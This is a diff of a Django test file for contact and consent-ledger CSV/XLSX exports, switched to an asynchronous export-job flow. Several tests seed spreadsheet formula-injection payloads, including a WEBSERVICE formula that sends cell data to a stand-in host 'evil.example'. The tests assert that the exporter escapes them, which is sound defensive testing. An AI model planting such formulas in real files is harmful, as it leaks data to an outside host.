@@ -22,14 +22,39 @@ from consent.models import ConsentEvent
 from consent.rules import Action
 from consent.services import Evidence
 from contacts.models import Contact
+from imports.models import ExportJob
 from tests.consent_helpers import record
 from tests.factories import ContactFactory
 
 pytestmark = pytest.mark.django_db
 
 
+CONTACTS = "/admin/imports/exportjob/contacts/"
+LEDGER = "/admin/imports/exportjob/ledger/"
+
+
 def body(response) -> bytes:
     return b"".join(response.streaming_content)
+
+
+@pytest.fixture
+def export(staff_client, django_capture_on_commit_callbacks):
+    """export(url, client=…, **form) -> the file's bytes: asked for, written by the task
+    (eagerly here), downloaded from the job's page as the person who asked."""
+
+    def run(url: str = CONTACTS, client=None, **data) -> bytes:
+        client = client or staff_client
+        data = {"file_format": "csv", "style": "codes", **data}
+        with django_capture_on_commit_callbacks(execute=True):
+            response = client.post(url, data)
+        assert response.status_code == 302, response.content.decode()[:2000]
+        page = client.get(response.url).content.decode()
+        assert "Ready to download" in page, page[-3000:]
+        download = client.get(response.url.replace("/progress/", "/download/"))
+        assert download.status_code == 200
+        return body(download)
+
+    return run
 
 
 @pytest.fixture
@@ -41,10 +66,8 @@ def ada(db):
     return contact
 
 
-def test_contacts_export_as_csv_with_states_and_formulas_escaped(staff_client, ada):
-    response = staff_client.get("/admin/contacts/contact/export/?format=csv")
-    assert response.status_code == 200 and response.streaming
-    rows = list(csv.DictReader(io.StringIO(body(response).decode())))
+def test_contacts_export_as_csv_with_states_and_formulas_escaped(export, ada):
+    rows = list(csv.DictReader(io.StringIO(export().decode())))
     [row] = rows
     assert row["phone"] == "+447911123456" and row["name"] == '\'=HYPERLINK("x")'
     # Attributes are one JSON column, whatever keys contacts have.
@@ -52,21 +75,18 @@ def test_contacts_export_as_csv_with_states_and_formulas_escaped(staff_client, a
     assert (row["marketing_state"], row["service_state"]) == ("opted_in", "none")
 
 
-def test_contacts_export_as_xlsx(staff_client, ada):
-    response = staff_client.get("/admin/contacts/contact/export/?format=xlsx")
-    assert response.status_code == 200
-    sheet = load_workbook(io.BytesIO(body(response)), read_only=True).worksheets[0]
+def test_contacts_export_as_xlsx(export, ada):
+    sheet = load_workbook(io.BytesIO(export(file_format="xlsx")), read_only=True).worksheets[0]
     header, row = list(sheet.iter_rows(values_only=True))
     values = dict(zip(header, row, strict=True))
     assert values["name"] == '\'=HYPERLINK("x")' and values["marketing_state"] == "opted_in"
 
 
-def test_an_exported_xlsx_reads_back_and_adds_nothing(
-    staff_client, ada, policy, tmp_path, run_import
+def test_an_exported_xlsx_in_codes_reads_back_and_adds_nothing(
+    export, ada, policy, tmp_path, run_import
 ):
-    response = staff_client.get("/admin/contacts/contact/export/?format=xlsx")
     path = tmp_path / "contacts.xlsx"
-    path.write_bytes(body(response))
+    path.write_bytes(export(file_format="xlsx"))
     events = ConsentEvent.objects.count()
 
     report = run_import(path)
@@ -76,16 +96,13 @@ def test_an_exported_xlsx_reads_back_and_adds_nothing(
     assert ConsentEvent.objects.count() == events and Contact.objects.count() == 1
 
 
-def test_the_ledger_for_a_period(staff_client, ada):
+def test_the_ledger_for_a_period(export, ada):
     old = ContactFactory(phone="+447911123457")
     record(old, Action.WITHDRAW, at=timezone.now() - timedelta(days=40))
     today = timezone.now().date()
     start = (today - timedelta(days=2)).isoformat()
-    response = staff_client.get(
-        f"/admin/consent/consentevent/export/?start={start}&end={today.isoformat()}&format=csv"
-    )
-    assert response.status_code == 200
-    rows = list(csv.DictReader(io.StringIO(body(response).decode())))
+    content = export(LEDGER, start=start, end=today.isoformat())
+    rows = list(csv.DictReader(io.StringIO(content.decode())))
     event = ConsentEvent.objects.get(contact=ada)
     assert [(r["event_id"], r["action"], r["hash"]) for r in rows] == [
         (str(event.pk), "grant", event.hash)
@@ -97,9 +114,9 @@ def test_the_ledger_export_needs_the_proof_permission(db, ada):
     user.groups.add(Group.objects.get(name="Marketing"))
     client = Client()
     client.force_login(user)
-    assert client.get("/admin/consent/consentevent/export/").status_code == 403
+    assert client.get(LEDGER).status_code == 403
     user.groups.add(Group.objects.get(name="Compliance"))
-    assert client.get("/admin/consent/consentevent/export/").status_code == 200
+    assert client.get(LEDGER).status_code == 200
 
 
 def test_the_export_commands_write_files(ada, tmp_path):
@@ -158,43 +175,39 @@ def assert_no_formula(xlsx: bytes) -> list[str]:
 
 @pytest.mark.parametrize("trigger", TRIGGERS)
 @pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
-def test_no_cell_of_the_xlsx_contact_export_runs_as_a_formula(staff_client, prefix, trigger):
+def test_no_cell_of_the_xlsx_contact_export_runs_as_a_formula(export, prefix, trigger):
     payload = f'{prefix}{trigger}HYPERLINK("http://evil.example","x")'
     ContactFactory(name=payload, external_id=payload, attributes={"city": payload})
 
-    response = staff_client.get("/admin/contacts/contact/export/?format=xlsx")
-
-    texts = assert_no_formula(body(response))
+    texts = assert_no_formula(export(file_format="xlsx", style="words"))
     # The name is there, escaped after the writer dropped what a workbook cannot hold.
     assert "'" + as_a_workbook_holds(payload) in texts
 
 
 @pytest.mark.parametrize("trigger", TRIGGERS)
 @pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
-def test_no_cell_of_the_xlsx_ledger_export_runs_as_a_formula(staff_client, ada, prefix, trigger):
+def test_no_cell_of_the_xlsx_ledger_export_runs_as_a_formula(export, ada, prefix, trigger):
     note = f'{prefix}{trigger}WEBSERVICE("http://evil.example/?"&A1)'
     record(ada, Action.WITHDRAW, evidence=Evidence(note=note))
     today = timezone.now().date().isoformat()
 
-    response = staff_client.get(
-        f"/admin/consent/consentevent/export/?start={today}&end={today}&format=xlsx"
-    )
-
-    texts = assert_no_formula(body(response))
+    texts = assert_no_formula(export(LEDGER, start=today, end=today, file_format="xlsx"))
     assert "'" + as_a_workbook_holds(note) in texts
 
 
 @pytest.mark.parametrize("trigger", TRIGGERS)
 @pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
-def test_every_csv_cell_that_would_run_as_a_formula_is_escaped(staff_client, prefix, trigger):
+def test_every_csv_cell_that_would_run_as_a_formula_is_escaped(export, prefix, trigger):
     payload = f"{prefix}{trigger}1+1"
     ContactFactory(name=payload, external_id=payload)
 
-    response = staff_client.get("/admin/contacts/contact/export/?format=csv")
-
-    [row] = list(csv.DictReader(io.StringIO(body(response).decode())))
-    assert row["name"] == row["external_id"] == f"'{payload}"
-    assert not any(runs_as_formula(v) for k, v in row.items() if k != "phone")
+    for style, name, external_id, phone in (
+        ("codes", "name", "external_id", "phone"),
+        ("words", "Name", "External id", "Phone"),
+    ):
+        [row] = list(csv.DictReader(io.StringIO(export(style=style).decode())))
+        assert row[name] == row[external_id] == f"'{payload}"
+        assert not any(runs_as_formula(v) for k, v in row.items() if k != phone)
 
 
 def test_the_export_command_writes_no_formula_either(tmp_path):
@@ -204,10 +217,10 @@ def test_the_export_command_writes_no_formula_either(tmp_path):
     assert '\'=HYPERLINK("http://evil.example")' in texts
 
 
-def test_escaped_cells_read_back_as_they_were(staff_client, policy, tmp_path, run_import):
+def test_escaped_cells_read_back_as_they_were(export, policy, tmp_path, run_import):
     contact = ContactFactory(name=" =1+1", external_id="＝SUM(A1)")
     path = tmp_path / "contacts.xlsx"
-    path.write_bytes(body(staff_client.get("/admin/contacts/contact/export/?format=xlsx")))
+    path.write_bytes(export(file_format="xlsx"))
 
     report = run_import(path)
 
@@ -224,40 +237,61 @@ def three(db):
     return [ContactFactory(name=name) for name in ("Ada", "Bob", "Cy")]
 
 
-def export_selected(client, contacts, action: str):
+def export_selected(client, contacts, **form):
     return client.post(
         "/admin/contacts/contact/",
-        {"action": action, "_selected_action": [str(c.pk) for c in contacts]},
+        {"action": "export_selected", "_selected_action": [str(c.pk) for c in contacts], **form},
     )
 
 
-def test_export_selected_as_csv_has_only_the_selection(staff_client, three):
-    response = export_selected(staff_client, three[:2], "export_selected_csv")
+@pytest.fixture
+def selected(staff_client, django_capture_on_commit_callbacks):
+    """selected(contacts, file_format) -> the file's bytes, as "Export selected" makes it."""
 
-    assert response.status_code == 200
-    assert response["Content-Disposition"].endswith('.csv"')
-    rows = list(csv.DictReader(io.StringIO(body(response).decode())))
+    def run(contacts, file_format: str = "csv", url: str = "/admin/contacts/contact/", **form):
+        with django_capture_on_commit_callbacks(execute=True):
+            response = staff_client.post(
+                url,
+                {
+                    "action": "export_selected",
+                    "_selected_action": [str(c.pk) for c in contacts] or ["x"],
+                    "file_format": file_format,
+                    "style": "codes",
+                    **form,
+                },
+            )
+        assert response.status_code == 302, response.content.decode()[-2000:]
+        return body(staff_client.get(response.url.replace("/progress/", "/download/")))
+
+    return run
+
+
+def test_export_selected_first_asks_for_the_format(staff_client, three):
+    response = export_selected(staff_client, three[:2])
+
+    page = response.content.decode()
+    assert response.status_code == 200 and "The 2 contacts you selected." in page
+    assert 'name="file_format"' in page and 'value="export_selected"' in page
+    assert page.count('name="_selected_action"') == 2
+    assert not ExportJob.objects.exists()
+
+
+def test_export_selected_as_csv_has_only_the_selection(selected, three):
+    rows = list(csv.DictReader(io.StringIO(selected(three[:2]).decode())))
     assert sorted(r["name"] for r in rows) == ["Ada", "Bob"]
 
 
-def test_export_selected_as_xlsx_has_only_the_selection(staff_client, three):
-    response = export_selected(staff_client, three[1:], "export_selected_xlsx")
-
-    assert response.status_code == 200
-    assert response["Content-Disposition"].endswith('.xlsx"')
-    sheet = load_workbook(io.BytesIO(body(response)), read_only=True).worksheets[0]
+def test_export_selected_as_xlsx_has_only_the_selection(selected, three):
+    sheet = load_workbook(io.BytesIO(selected(three[1:], "xlsx")), read_only=True).worksheets[0]
     header, *rows = list(sheet.iter_rows(values_only=True))
     names = [dict(zip(header, row, strict=True))["name"] for row in rows]
     assert sorted(names) == ["Bob", "Cy"]
 
 
-def test_export_selected_with_select_all_exports_the_filtered_list(staff_client, three):
-    response = staff_client.post(
-        "/admin/contacts/contact/?q=Bob",
-        {"action": "export_selected_csv", "select_across": "1", "_selected_action": "x"},
-    )
+def test_export_selected_with_select_all_exports_the_filtered_list(selected, three):
+    content = selected([], url="/admin/contacts/contact/?q=Bob", select_across="1")
 
-    rows = list(csv.DictReader(io.StringIO(body(response).decode())))
+    rows = list(csv.DictReader(io.StringIO(content.decode())))
     assert [r["name"] for r in rows] == ["Bob"]
 
 
@@ -265,39 +299,34 @@ def test_export_selected_needs_the_view_permission(db, three):
     user = get_user_model().objects.create_user("nobody", password="pw", is_staff=True)
     client = Client()
     client.force_login(user)
-    assert export_selected(client, three, "export_selected_csv").status_code == 403
+    assert export_selected(client, three, file_format="csv", style="words").status_code == 403
+    assert not ExportJob.objects.exists()
 
 
 # --- Many attribute keys ----------------------------------------------------------------
 
 
-def test_an_export_with_100000_attribute_keys_keeps_within_the_column_limit(staff_client, settings):
+def test_an_export_with_100000_attribute_keys_keeps_within_the_column_limit(export, settings):
     # given 100 contacts with 1,000 keys each: 100,000 distinct keys in all
     for n in range(100):
         ContactFactory(attributes={f"key{n}-{i}": str(i) for i in range(1000)})
 
     # then both formats answer, with the same few columns and each contact's attributes whole
-    response = staff_client.get("/admin/contacts/contact/export/?format=xlsx")
-    assert response.status_code == 200
-    sheet = load_workbook(io.BytesIO(body(response)), read_only=True).worksheets[0]
+    sheet = load_workbook(io.BytesIO(export(file_format="xlsx")), read_only=True).worksheets[0]
     header, *rows = list(sheet.iter_rows(values_only=True))
     assert len(header) <= settings.IMPORT_MAX_COLUMNS and len(rows) == 100
     attributes = dict(zip(header, rows[0], strict=True))["attributes"]
     assert len(json.loads(attributes)) == 1000
 
-    response = staff_client.get("/admin/contacts/contact/export/?format=csv")
-    assert response.status_code == 200
-    rows = list(csv.DictReader(io.StringIO(body(response).decode())))
+    rows = list(csv.DictReader(io.StringIO(export().decode())))
     assert len(rows) == 100 and len(rows[0]) <= settings.IMPORT_MAX_COLUMNS
     assert sum(len(json.loads(r["attributes"])) for r in rows) == 100_000
 
 
-def test_a_cell_longer_than_a_spreadsheet_holds_is_cut_and_says_so(staff_client):
+def test_a_cell_longer_than_a_spreadsheet_holds_is_cut_and_says_so(export):
     ContactFactory(attributes={f"key{i}": "x" * 100 for i in range(1000)})
 
-    response = staff_client.get("/admin/contacts/contact/export/?format=xlsx")
-
-    sheet = load_workbook(io.BytesIO(body(response)), read_only=True).worksheets[0]
+    sheet = load_workbook(io.BytesIO(export(file_format="xlsx")), read_only=True).worksheets[0]
     header, row = list(sheet.iter_rows(values_only=True))
     attributes = dict(zip(header, row, strict=True))["attributes"]
     assert len(attributes) == 32_767 and attributes.endswith("the CSV export has it whole]")
